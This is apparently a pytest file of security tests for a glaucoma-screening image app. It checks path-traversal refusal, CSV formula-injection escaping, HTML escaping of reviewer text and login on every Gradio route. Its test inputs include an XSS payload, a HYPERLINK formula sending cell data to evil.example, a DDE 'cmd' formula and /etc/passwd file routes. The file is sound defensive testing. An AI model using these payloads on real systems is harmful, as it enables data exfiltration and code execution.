"""Security defaults (issue 24; SECURITY.md): server paths under --data-root, CSV formula injection,
user text never rendered as HTML, login required on every route, bounded prompt files."""
from __future__ import annotations

import csv
import json
import os
import stat
import time
import urllib.error
import urllib.request
from pathlib import Path

import pandas as pd
import pytest

from engine import PromptSet, VisionCLIPError
from engine import prompts as engine_prompts
from visionclip_app import cli as app_cli
from visionclip_app.paths import PathRefused, resolve_under_root
from visionclip_app.store import CaseRecord, CaseStore

from .local_server import free_port

XSS = "<img src=x onerror=alert(1)>"


# ------------------------------------------------------------------------------------- --data-root
@pytest.fixture
def root(tmp_path):
    r = tmp_path / "data"
    (r / "set1").mkdir(parents=True)
    (r / "set1" / "labels.csv").write_text("path,label\n")
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "labels.csv").write_text("path,label\n")
    return r


def test_paths_inside_the_root_resolve(root):
    assert resolve_under_root(root, "set1") == (root / "set1").resolve()
    assert resolve_under_root(root, str(root / "set1")) == (root / "set1").resolve()  # absolute, inside
    assert resolve_under_root(root, "  set1/ ") == (root / "set1").resolve()
    assert resolve_under_root(root, "not/yet/there") == (root / "not/yet/there").resolve()  # caller reports missing
    os.symlink(root / "set1", root / "link_inside")
    assert resolve_under_root(root, "link_inside") == (root / "set1").resolve()


@pytest.mark.parametrize("user_path, words", [
    ("../secret", "'..'"), ("set1/../../secret", "'..'"), ("..", "'..'"),
    ("/etc", "outside the data root"), ("/", "outside the data root"), ("", "Enter a folder"),
    ("a\x00b", "not allowed"), ("x" * 5000, "not allowed"),
])
def test_paths_escaping_the_root_are_refused(root, user_path, words):
    with pytest.raises(PathRefused, match=words) as e:
        resolve_under_root(root, user_path)
    assert "\n" not in str(e.value)


def test_symlinks_out_of_the_root_are_refused(root, tmp_path):
    os.symlink(tmp_path / "secret", root / "escape")
    os.symlink("/etc", root / "etc_link")
    (root / "set1" / "deep").mkdir()
    os.symlink(tmp_path / "secret" / "labels.csv", root / "set1" / "deep" / "labels.csv")
    for p in ("escape", "escape/labels.csv", "etc_link", "set1/deep/labels.csv"):
        with pytest.raises(PathRefused, match="outside the data root"):
            resolve_under_root(root, p)
    os.symlink(root / "loop", root / "loop")
    with pytest.raises(PathRefused):
        resolve_under_root(root, "loop/x")


def test_without_a_data_root_folder_features_are_off(root):
    for r in (None, ""):
        with pytest.raises(PathRefused, match="--data-root"):
            resolve_under_root(r, "set1")


def test_data_root_on_the_app_command_line(root, tmp_path):
    assert app_cli.parse_args([]).data_root is None  # off by default
    assert app_cli.parse_args(["--data-root", str(root)]).data_root == str(root)
    with pytest.raises(SystemExit):
        app_cli.parse_args(["--data-root", str(tmp_path / "missing")])


def test_app_context_carries_the_data_root(default_model, root, tmp_path):
    from visionclip_app.handlers import AppContext

    assert AppContext.create(default_model, CaseStore(tmp_path / "c.db"), tmp_path / "w").data_root is None
    ctx = AppContext.create(default_model, CaseStore(tmp_path / "c.db"), tmp_path / "w", data_root=root)
    assert ctx.data_root == root


# ------------------------------------------------------------------------------------- CSV injection
def record(**kw) -> CaseRecord:
    base = dict(reviewer="dr a", verdict="agree", image_sha256="ab" * 32, thumbnail=b"", prompt_set_json="{}",
                prompt_set_sha256="cd" * 32, probabilities={"normal": 0.7, "glaucoma": 0.3}, model_id="m",
                predicted_label="normal")
    base.update(kw)
    return CaseRecord.of(**base)


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formulas(tmp_path):
    store = CaseStore(tmp_path / "c.db")
    ids = [store.log_case(record(notes=f, reviewer="@attacker" if i == 0 else "dr a",
                                 verdict="disagree", corrected_labels=["=cmd|' /C calc'!A0"]))
           for i, f in enumerate(FORMULAS)]
    store.log_case(record(notes="plain note, = inside is fine"))
    path = store.export_csv(tmp_path / "out.csv")
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    notes = {int(r["id"]): r["notes"] for r in rows}
    for case_id, formula in zip(ids, FORMULAS):
        assert notes[case_id] == "'" + formula  # shown as text, data kept after the quote
    assert "plain note, = inside is fine" in notes.values()
    for r in rows:
        for value in r.values():
            assert value[:1] not in "=+-@\t\r" or value == "", value
    # JSON export and the store keep the reviewer's text exactly.
    data = json.loads(store.export_json(tmp_path / "out.json").read_text())
    assert {c["notes"] for c in data["cases"]} >= set(FORMULAS)
    assert store.get_case(ids[0])["notes"] == FORMULAS[0]


def test_app_csv_export_with_a_hyperlink_note(default_model, tmp_path):
    from visionclip_app import handlers as h

    ctx = h.AppContext.create(default_model, CaseStore(tmp_path / "c.db"), tmp_path / "w")
    ctx.store.log_case(record(notes=FORMULAS[0]))
    path, status = h.export_cases(ctx, "csv")
    assert status.startswith(h.STATUS_OK)
    assert "'=HYPERLINK(" in Path(path).read_text(encoding="utf-8")
    assert ',=HYPERLINK(' not in Path(path).read_text(encoding="utf-8")


# ------------------------------------------------------------------------------------- no HTML from users
def test_reviewer_and_prompt_text_is_not_rendered_as_html(default_model, tmp_path):
    from engine.synth import render_fundus
    from PIL import Image
    from visionclip_app import handlers as h

    ctx = h.AppContext.create(default_model, CaseStore(tmp_path / "c.db"), tmp_path / "w")
    img = tmp_path / "f.png"
    Image.fromarray(render_fundus(3, 256).image).save(img)
    table = pd.DataFrame([[f"normal {XSS}", f"a healthy fundus {XSS}"], [f"glaucoma {XSS}", "a large optic cup"],
                          [f"glaucoma {XSS}", "glaucoma"]], columns=h.PROMPT_COLUMNS)
    out = h.analyse(ctx, str(img), table, h.saliency_methods()[0], 0.5, f"normal {XSS}")
    status, probs, state = out[0], out[1], out[-1]
    assert status.startswith(h.STATUS_OK) and "&lt;img" in status  # every class carries the tag: so does the prediction
    texts = [status, out[4]]
    status, case_id = h.save_review(ctx, state, f"dr {XSS}", "disagree", [f"label {XSS}"], 0.5, f"note {XSS}")
    assert case_id is not None
    assert h.add_correction(ctx, case_id, f"dr {XSS}", "agree", None, None, XSS).startswith(h.STATUS_OK)
    _, _, case_md, history, status = h.open_case(ctx, case_id)
    texts += [status, case_md]
    frame, agreement_md, _, status = h.search_cases(ctx, text="img")
    texts += [agreement_md, status]
    for t in texts:  # Markdown outputs: user text must arrive escaped, never as a live tag
        assert "<img" not in t, t
    assert XSS in ctx.store.get_case(case_id)["notes"]  # stored as typed
    assert XSS in history["notes"].tolist()  # tables show it as text (str cells are not rendered as HTML)


# ------------------------------------------------------------------------------------- prompt files
def test_a_huge_prompt_file_is_refused_before_it_is_read(tmp_path):
    import resource

    big = tmp_path / "huge.json"
    with open(big, "wb") as fh:  # sparse: 3 GB on paper, nothing on disk
        fh.truncate(3 * 2**30)
    rss0 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(VisionCLIPError, match="too large"):
        PromptSet.from_json(big)
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss0) / 1024 < 50
    with pytest.raises(VisionCLIPError, match="too large"):
        PromptSet.from_json_text(" " * (engine_prompts.MAX_PROMPT_FILE_BYTES + 1))


def test_a_deeply_nested_prompt_file_gives_one_line(tmp_path):
    p = tmp_path / "deep.json"
    p.write_text("[" * 200_000 + "]" * 200_000)
    with pytest.raises(VisionCLIPError) as e:
        PromptSet.from_json(p)
    assert "\n" not in str(e.value)


# ------------------------------------------------------------------------------------- login
def test_auth_file_readable_by_everyone_is_warned_about(tmp_path):
    f = tmp_path / "users.txt"
    f.write_text("alice:s3cret\n")
    f.chmod(0o644)
    assert any("chmod 600" in w for w in app_cli.auth_file_warnings(str(f)))
    f.chmod(0o600)
    assert app_cli.auth_file_warnings(str(f)) == []
    assert app_cli.parse_auth(app_cli.parse_args(["--auth-file", str(f)])) == [("alice", "s3cret")]


@pytest.fixture(scope="module")
def served_app(default_model, tmp_path_factory):
    """The real UI, launched in-process on 127.0.0.1 with a login from an --auth-file."""
    from visionclip_app.handlers import AppContext
    from visionclip_app.ui import build_ui

    d = tmp_path_factory.mktemp("served")
    users = d / "users.txt"
    users.write_text("alice:s3cret-pw\n")
    users.chmod(0o600)
    auth = app_cli.parse_auth(app_cli.parse_args(["--auth-file", str(users)]))
    ctx = AppContext.create(default_model, CaseStore(d / "c.db"), d / "w")
    demo = build_ui(ctx)
    demo.queue(default_concurrency_limit=4)
    port = free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, auth=auth, prevent_thread_lock=True, quiet=True,
                share=False, mcp_server=False, ssr_mode=False)
    yield f"http://127.0.0.1:{port}", ("alice", "s3cret-pw"), demo
    demo.close()


def get(url: str, data: bytes | None = None, headers: dict | None = None, method: str | None = None) -> tuple[int, str]:
    req = urllib.request.Request(url, data=data, headers=headers or {}, method=method)
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return r.status, r.read1(200_000).decode("utf-8", "replace")  # read1: an event stream never ends
    except urllib.error.HTTPError as e:
        return e.code, e.read(20_000).decode("utf-8", "replace")


# Routes Gradio answers for anyone, by design and without app data: the login page and its assets, the
# web-app manifest (the page title), FastAPI's route list and three liveness probes (a bare true/false, a
# random app id, an endless "ALIVE" event stream). Listed in SECURITY.md, known limits.
PUBLIC = ["/", "/logout", "/favicon.ico", "/theme.css", "/robots.txt", "/manifest.json", "/openapi.json",
          "/gradio_api/startup-events", "/gradio_api/app_id", "/gradio_api/heartbeat/x"]
# Everything that serves configuration, files or case data, or runs an event: refused without a login.
PROTECTED = ["/config", "/gradio_api/deep_link", "/gradio_api/info", "/info", "/gradio_api/queue/status",
             "/gradio_api/queue/data", "/gradio_api/upload_progress", "/gradio_api/file=/etc/passwd",
             "/file=/etc/passwd", "/monitoring", "/monitoring/summary", "/gradio_api/api/predict",
             "/gradio_api/call/analyse", "/gradio_api/call/analyse/x", "/gradio_api/call/do_analyse",
             "/gradio_api/queue/join", "/gradio_api/run/predict", "/gradio_api/upload", "/gradio_api/mcp/schema"]


def test_no_route_answers_without_credentials(served_app):
    base, _, _ = served_app
    status, body = get(base + "/")
    assert status in (200, 401)  # the login page, or a refusal
    # The login page carries no layout or component config and no app text. (Gradio does embed the API
    # description there, endpoint names and parameter labels, no data: SECURITY.md, known limits.)
    assert '"auth_required":true' in body.replace(" ", "") and '"components":[]' in body.replace(" ", "")
    assert "Zero-shot analysis" not in body
    for path in PROTECTED:
        for method, data in (("GET", None), ("POST", b'{"data": [], "fn_index": 0, "session_hash": "x"}')):
            status, body = get(base + path, data=data, headers={"Content-Type": "application/json"}, method=method)
            assert status in (401, 403, 404, 405, 422), (method, path, status, body[:200])
            assert "root:" not in body and '"components"' not in body and '"named_endpoints"' not in body, path


def test_wrong_password_is_refused_and_the_right_one_opens_the_app(served_app):
    import http.cookiejar

    base, (user, pw), _ = served_app
    status, _ = get(base + "/login", data=f"username={user}&password=wrong".encode(),
                    headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert status in (400, 401, 403)
    jar = http.cookiejar.CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
    r = opener.open(urllib.request.Request(base + "/login", data=f"username={user}&password={pw}".encode(),
                                           headers={"Content-Type": "application/x-www-form-urlencoded"}), timeout=20)
    assert r.status == 200
    config = json.loads(opener.open(base + "/config", timeout=20).read())
    assert config.get("components")  # with the login cookie the app answers


def test_gradio_client_without_credentials_is_refused(served_app):
    gradio_client = pytest.importorskip("gradio_client")
    base, (user, pw), _ = served_app
    with pytest.raises(Exception):
        gradio_client.Client(base, verbose=False)
    client = gradio_client.Client(base, auth=(user, pw), verbose=False)
    assert client.view_api(print_info=False, return_format="dict")["named_endpoints"]


def test_status_lines_and_pop_ups_escape_the_text_they_quote():
    from visionclip_app import handlers as h

    table = pd.DataFrame([[XSS, f"a fundus {XSS}"], ["glaucoma", "a large optic cup"]], columns=h.PROMPT_COLUMNS)
    _, removed = h.delete_prompt_row(table, 1)  # an ok line naming the removed class and prompt
    blank = table.copy()
    blank.iloc[0, 1] = ""
    with pytest.raises(h.UserError) as e:  # an error line quoting the class
        h.prompt_set_from_table(blank)
    for status in (removed, h.error_status(e.value)):  # Markdown, and error_status's pop-up renders HTML
        assert "<img" not in status and "&lt;img" in status, status
